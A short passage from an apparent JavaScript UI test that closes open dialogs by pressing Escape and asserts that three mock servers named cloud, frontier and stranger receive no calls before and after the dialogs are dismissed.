    for (const server of [cloud, frontier, stranger]) assert.deepEqual(server.book.calls, []);
    for (let tries = 30; tries > 0 && (await window.dialog().count()) > 0; tries--) {
      await window.press('Escape');
      await window.page.waitForTimeout(300);
    }
    await settle(window);
    for (const server of [cloud, frontier, stranger]) assert.deepEqual(server.book.calls, []);
  }),
);
